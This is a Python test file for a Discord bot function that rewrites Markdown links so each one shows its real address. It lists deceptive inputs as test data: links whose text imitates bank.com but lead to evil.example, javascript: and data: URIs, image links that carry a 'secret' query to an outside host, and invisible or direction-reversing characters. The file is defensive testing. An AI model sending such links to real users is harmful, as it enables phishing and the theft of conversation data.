"""Links show where they lead, as Discord would show them."""

import re
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from acore_bot.frontends.discord.links import disarm

# How Discord's client reads a text, as far as it matters: rules are tried in order at each place,
# each looks at all that follows, and what a style encloses is read anew on its own.
_ESCAPE = re.compile(r"\\([^0-9A-Za-z\s])")
_BLOCK = re.compile(r"```(?:([a-z0-9_+\-.#]+?)\n)?\n*([^\n][\s\S]*?)\n*```", re.IGNORECASE)
_SPAN = re.compile(r"(`+)([\s\S]*?[^`])\1(?!`)")
_QUOTE = re.compile(r"( *>>> +[\s\S]*)|( *>(?!>>) +[^\n]*(?:\n *>(?!>>) +[^\n]*)*\n?)")
_ANGLED = re.compile(r"<([^: >]+:/[^ >]+)>")
_WEB = re.compile(r"https?://[^\s<]+[^<.,:;\"')\]\s]")
_LINK = re.compile(
    r"\[((?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*)\]"
    r"\(\s*<?((?:\([^)]*\)|[^\s\\]|\\.)*?)>?(?:\s+['\"]([\s\S]*?)['\"])?\s*\)"
)
_STYLES = [
    re.compile(r"\*\*((?:\\[\s\S]|[^\\])+?)\*\*(?!\*)"),
    re.compile(r"__((?:\\[\s\S]|[^\\])+?)__(?!_)"),
    re.compile(r"_((?:__|\\[\s\S]|[^\\_])+?)_(?!\w)"),
    re.compile(r"\*(?=\S)((?:\*\*|\s+(?:[^*\s]|\*\*)|[^\s*])+?)\*(?!\*)"),
    re.compile(r"~~([\s\S]+?)~~(?!_)"),
    re.compile(r"\|\|([\s\S]+?)\|\|"),
]
_LINE = re.compile(r"(?:-# |#{1,3} |[-*] )([^\n]+)\n?")


def masked_links(text: str, *, in_quote: bool = False) -> list[str]:
    """Tell where the links of a text lead whose address it hides."""
    found: list[str] = []
    at = 0
    while at < len(text):
        starts_line = at == 0 or text[at - 1] == "\n"
        if starts_line and not in_quote and (quote := _QUOTE.match(text, at)):
            inner = re.sub(r"^ *>(?:>>)? ?", "", quote[0], flags=re.MULTILINE)
            found += masked_links(inner, in_quote=True)
            at = quote.end()
        elif starts_line and (line := _LINE.match(text, at)):
            found += masked_links(line[1], in_quote=in_quote)
            at = line.end()
        elif rule := next(
            (m for p in (_ESCAPE, _BLOCK, _ANGLED, _WEB) if (m := p.match(text, at))), None
        ):
            at = rule.end()
        elif (link := _LINK.match(text, at)) is not None:
            address = re.sub(r"\\([^0-9A-Za-z\s])", r"\1", link[2])
            if re.match(r"(?:https?|discord)://", address, re.IGNORECASE):
                found.append(address)
            at = link.end()
        elif style := next((m for p in _STYLES if (m := p.match(text, at))), None):
            found += masked_links(style[1], in_quote=in_quote)
            at = style.end()
        elif span := _SPAN.match(text, at):
            at = span.end()
        else:
            at += 1
    return found


def units(text: str) -> int:
    """Count as Discord does at its strictest."""
    return len(text.encode("utf-16-le")) // 2


S11 = [
    # Words that look like another host, and harmless ones.
    ("[bank.com](http://evil.example)", "bank.com <http://evil.example>"),
    ("[https://bank.com](http://evil.example)", "https://bank.com <http://evil.example>"),
    ("[https://a.example](https://a.example)", "<https://a.example>"),
    (
        "see [the manual](https://a.example/b), please",
        "see the manual <https://a.example/b>, please",
    ),
    (
        "[a](https://a.example) [b](https://b.example)",
        "a <https://a.example> b <https://b.example>",
    ),
    ("[ a ](  https://a.example  )", " a  <https://a.example>"),
    ("[a](<https://a.example>)", "a <https://a.example>"),
    ('[a](https://a.example "bank.com")', "a <https://a.example>"),
    ("[a](https://a.example 'bank.com')", "a <https://a.example>"),
    ("[a](https://a.example/b_(c))", "a <https://a.example/b_(c)>"),
    ("([a](https://a.example))", "(a <https://a.example>)"),
    ("[a [b] c](https://a.example)", "a [b] c <https://a.example>"),
    ("[a] b](https://a.example)", "[a] b]<https://a.example>"),
    ("[bank.com\n](http://evil.example)", "bank.com\n <http://evil.example>"),
    ("[](http://evil.example)", "<http://evil.example>"),
    ("[a](HTTP://evil.example)", "a <HTTP://evil.example>"),
    (r"[a](http\://evil.example)", "a <http://evil.example>"),
    (r"[a\](http://evil.example)", "a\\ <http://evil.example>"),
    (
        "[bank.com][(http://evil.example)](http://x.example)",
        "[bank.com] (http://evil.example) <http://x.example>",
    ),
    ("[a](http://x.example](http://evil.example)", "a <http://x.example>]<http://evil.example>"),
    # Within other marks.
    ("||[a](http://evil.example)||", "||a <http://evil.example>||"),
    ("**[a](http://evil.example)**", "**a <http://evil.example>**"),
    ("> [a](http://evil.example)", "> a <http://evil.example>"),
    ("- [a](http://evil.example)", "- a <http://evil.example>"),
    ("# [a](http://evil.example)", "# a <http://evil.example>"),
    ("~~~\n[a](http://evil.example)\n~~~", "~~~\na <http://evil.example>\n~~~"),
    # Other schemes.
    ("[a](javascript:alert(1))", "a javascript:alert(1)"),
    ("[a](JaVaScRiPt:alert(1))", "a JaVaScRiPt:alert(1)"),
    ("[a](data:text/html;base64,PHNjcmlwdD4=)", "a data:text/html;base64,PHNjcmlwdD4="),
    ("[a](discord://-/channels/1)", "a discord://-/channels/1"),
    ("[a](docs/read.me)", "a docs/read.me"),
    # Pictures, whose address may carry off what was said.
    ("![a](https://evil.example/?q=secret)", "a <https://evil.example/?q=secret>"),
    ("![](https://evil.example/?q=secret)", "<https://evil.example/?q=secret>"),
    (
        "[![a](https://e.example/i)](https://e.example)",
        "a <https://e.example/i> <https://e.example>",
    ),
    # Characters that nobody sees, or that reverse others.
    ("[bank.com](http://e\u200bvil.example)", "bank.com <http://evil.example>"),
    ("[bank.com](http://e\u200dvil.example)", "bank.com <http://evil.example>"),
    ("[bank.com]\u200b(http://evil.example)", "bank.com <http://evil.example>"),
    ("[moc.knab\u202e](http://evil.example)", "moc.knab <http://evil.example>"),
    ("\u202ehttps://evil.example/moc.knab", "https://evil.example/moc.knab"),
    ("https://bank.com\u200e.evil.example/", "https://bank.com.evil.example/"),
    ("\u2066[a](http://evil.example)\u2069", "a <http://evil.example>"),
    # Names before the host.
    ("https://bank.com@evil.example/x", "https://evil.example/x"),
    ("[a](https://bank.com:x@evil.example)", "a <https://evil.example>"),
    ("<https://bank.com@evil.example>", "<https://evil.example>"),
    # Invitations, which Discord makes a card of wherever they stand.
    ("https://discord.gg/abc", "discord.gg abc"),
    ("come to discord.gg/abc!", "come to discord.gg abc!"),
    ("<https://discord.com/invite/abc>", "<discord.com/invite abc>"),
    ("[a](https://discord.gg/abc)", "a discord.gg abc"),
    ("www.discord.gg//abc", "discord.gg abc"),
    # Unfinished ones.
    ("[bank.com][(b](http://evil.example", "[bank.com] (b http://evil.example"),
    ("[bank.com](http://evil.exam", "bank.com <http://evil.exam>"),
    ("[bank.com](http://evil.exam ▌", "bank.com <http://evil.exam> ▌"),
]

UNTOUCHED = [
    "plain text, f[0](x) and a[i](j) and [1] and (2)",
    "https://a.example/b_c_d?e=f&g=(h) and <https://a.example/i>.",
    "`[a](https://a.example)` is how a link is written",
    "``[a](https://a.example) ` ``",
    "```md\n[a](https://a.example)\n```",
    "Here:\n```md\n# A\n[a](https://a.example)\n- [b](https://b.example)\n```\nand `[c](https://c.example)`",
    "**bold** and `x`:\n```\n[a](https://a.example) **b**\n```",
    "> ```\n> [a](https://a.example)\n> ```\n",
    "1. one\n   ```md\n   [a](https://a.example)\n   ```",
    "a family 👨‍👩‍👧 and <@1> <#2> <:smile:3> <t:4:R>",
    "می‌خواهم",
]

# Texts that make Discord see other code than a simple reader does.
SWALLOWED = [
    "**a `b** [x](http://evil.example) `c",
    "_a `b_ [x](http://evil.example) `c",
    "||a `b|| [x](http://evil.example) `c",
    "~~a `b~~ [x](http://evil.example) `c",
    "**a\n```\n[x](http://evil.example)**\n```",
    "a `b\n[x](http://evil.example) `",
    "# a `b\n[x](http://evil.example) `",
    "> ```\n[x](http://evil.example)\n> ```",
    "- ```\n[x](http://evil.example)\n```",
    "  ```\n[x](http://evil.example)\n```",
    "```a` [x](http://evil.example) `",
    "````a```` ` [x](http://evil.example) `",
    r"\`[x](http://evil.example)`",
    "<http://a`> [x](http://evil.example)`",
    "https://a` [x](http://evil.example)`",
    "[a`b](http://evil.example) c`d",
    "[a `b](x) c` [x](http://evil.example) `",
    "[q `b](http://evil.example)` c",
    "**a `b** c` d `[x](http://evil.example)`",
    "`[`a](http://evil.example)`",
    "```\n[x](http://evil.example)",
    "<a:/`[](x)> [x](http://evil.example)`",
    "[a](`[x](http://evil.example)` `[x](http://evil.example)`",
    "[a](b '`') `[x](http://evil.example)`",
    "https://a](b` [x](http://evil.example)`",
    "*[**`*[x](http://evil.example)`",
    "*a **b* c** `** [x](http://evil.example)`",
    "_a_b `_ [x](http://evil.example)`",
    "a ** b `** [x](http://evil.example)`",
]


def test_s11_has_fifty_cases() -> None:
    """There are as many cases as the catalogue wants."""
    assert len(S11) >= 50


@pytest.mark.parametrize(("text", "shown"), S11)
def test_s11_links(text: str, shown: str) -> None:
    """A link shows its address, and what only looks like its address does not lead there."""
    assert disarm(text) == shown
    assert units(shown) <= units(text)
    assert not masked_links(shown)


@pytest.mark.parametrize("text", UNTOUCHED)
def test_other_text_stays_as_it_is(text: str) -> None:
    """Code and whatever hides no address is not touched."""
    assert disarm(text) == text


@pytest.mark.parametrize("text", SWALLOWED)
def test_s11_links_that_seem_to_be_code(text: str) -> None:
    """A link is disarmed where only a simple reader of Markdown would take it for code."""
    assert not masked_links(disarm(text))


MARKS = (
    *"[]()`*_\\<>!@'\".ab",
    *("](", "[a](", "``", "```", "~~~", "**", "__", "~~", "||", "\\]", "\\[", "<a:/", "://"),
)
PIECES = st.sampled_from(
    [
        *MARKS,
        *("\u200b", "\u202e", "\u200d", " ", "\n", "\n> ", "\n- ", "\n# ", "\n```\n"),
        *("http://e.example", "https://", "discord.gg/x", "x.y", "(http://evil.example)"),
        *("[x](http://evil.example)", "`[x](http://evil.example)`"),
    ]
)


@settings(max_examples=2000, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join))
@example("[<a:/]>(http://evil.example)")
@example("[<https://discord.gg/a]>(http://evil.example)")
@example("``[[x](http://evil.example)](http://evil.example)`")
def test_s11_no_text_hides_an_address(text: str) -> None:
    """Whatever the text, no link of it hides its address, it is not longer than before, and doing
    it again changes nothing for the worse."""
    shown = disarm(text)
    assert not masked_links(shown)
    assert units(shown) <= units(text)
    assert not masked_links(disarm(shown))


@given(st.text())
def test_text_never_gets_longer(text: str) -> None:
    """What fits before fits afterwards."""
    assert units(disarm(text)) <= units(text)


def test_a_growing_link_does_not_flicker() -> None:
    """While a link streams in, its address appears where it will stay."""
    text = "See [bank.com](http://evil.example/x) now"
    whole = disarm(text)
    begin = text.index("http") + len("http://")
    for end in range(begin + 1, len(text) + 1):
        shown = disarm(text[:end])
        assert "](" not in shown
        assert whole.startswith(shown.removesuffix(">"))


@pytest.mark.parametrize(
    "piece",
    ["[", "]", "<", "<a:/", "`", "](", "[a](http://", "` ", "https://", "```\n", "_`", "a.", "> "],
)
def test_s19_hostile_marks_cost_little(piece: str) -> None:
    """Two thousand of the worst characters are done in well under 50 ms."""
    text = (piece * 2000)[:1990] + "://"
    began = time.thread_time()
    disarm(text)
    assert time.thread_time() - began < 0.05
